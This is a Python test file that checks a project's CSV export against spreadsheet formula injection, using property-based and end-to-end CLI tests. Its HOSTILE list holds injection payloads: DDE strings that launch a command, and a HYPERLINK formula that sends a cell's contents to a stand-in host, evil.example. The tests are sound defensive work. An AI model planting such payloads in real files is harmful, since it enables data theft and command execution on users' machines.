"""CSV that a spreadsheet opens as data, never as formulas: every CSV the
project writes goes through escape.csv_text, which follows OWASP's rule
(a cell starting with = + - @, tab or CR gets a leading single quote)."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from engine.journal import Journal
from engine.render.escape import csv_cell, csv_text, visible
from tests import journey_gen
from tests.conftest import Runner
from tests.runtime_support import Sop

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"点这里")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    '"=1+1",=2',
)


@settings(max_examples=500, deadline=None)
@given(st.text(alphabet=st.sampled_from([*FORMULA_START, "a", "中", '"', ",", "\n", "'", " "])))
def test_a_cell_never_starts_a_formula(text: str) -> None:
    cell = csv_cell(text)
    assert isinstance(cell, str)
    assert not cell.startswith(FORMULA_START)
    assert cell in (visible(text), "'" + visible(text))  # otherwise the text as it was


def test_numbers_stay_numbers_and_rows_read_back() -> None:
    assert csv_cell(-3) == -3 and csv_cell(2.5) == 2.5 and csv_cell(True) == "True"
    text = csv_text([("天数", "客户"), (-3, HOSTILE[0]), (0, "王\n先生")])
    assert text.endswith("\r\n")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["天数", "客户"], ["-3", "'" + HOSTILE[0]], ["0", "王\n先生"]]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_sop_due_csv_neutralises_customers_and_sites(sop: Runner, tmp_path: Path) -> None:
    """Customers' names and sites as an attacker would type them, through
    `sop due --format csv` to stdout and to a file, filtered by --site too."""
    at = date(2026, 11, 21)
    plans = journey_gen.plans(len(HOSTILE) * 2, 7, date(2026, 11, 20))
    for i, plan in enumerate(plans):
        plan.site = HOSTILE[i % len(HOSTILE)]
        subject = plan.doc.get("subject") or []
        for name in [subject] if isinstance(subject, str) else subject:
            if plan.doc["inputs"][name]["type"] == "text":  # a name, not a phone number
                plan.inputs[name] = HOSTILE[(i + 3) % len(HOSTILE)]
    run = Sop(sop, tmp_path / "journal.db")
    with Journal(str(run.journal)) as journal:
        journey_gen.walk(journal, plans)
    env = {"TZ": "CST-8"}
    shown = run("due", "--at", at.isoformat(), "--days", "3660", "--format", "csv", env=env)
    assert shown.returncode == 0, shown.stderr
    out = tmp_path / "calls.csv"
    written = run(
        "due", "--at", at.isoformat(), "--days", "3660", "--format", "csv", "-o", str(out),
        env=env,
    )  # fmt: skip
    assert written.returncode == 0, written.stderr
    for text in (shown.stdout, out.read_text(encoding="utf-8-sig")):
        rows = _cells(text)
        assert len(rows) > 5
        sites, customers = set(), set()
        for row in rows[1:]:
            for k, cell in enumerate(row):
                if k == 2 or (k == 3 and cell):  # days and run (none for a scheduled duty)
                    int(cell)
                else:
                    assert not cell.startswith(FORMULA_START), (k, cell)
            sites.add(row[5])
            customers.add(row[4])
        assert sites & {"'" + h for h in HOSTILE}, sites
        assert {c for c in customers if c.startswith("'")}, customers
    site = HOSTILE[0]
    one = run("due", "--at", at.isoformat(), "--days", "3660", "--site", site, "--format", "csv")
    rows = _cells(one.stdout)
    assert len(rows) > 1 and {r[5] for r in rows[1:]} == {"'" + site}


_SCALARS = st.none() | st.booleans() | st.integers() | st.text()


@given(st.lists(st.dictionaries(st.text(), _SCALARS, max_size=5), max_size=4))
def test_the_call_lists_json_is_json_dumps_indented(rows: list[dict[str, object]]) -> None:
    import json

    from engine.render.calls import indented

    assert indented(rows) == json.dumps(rows, ensure_ascii=False, indent=2)
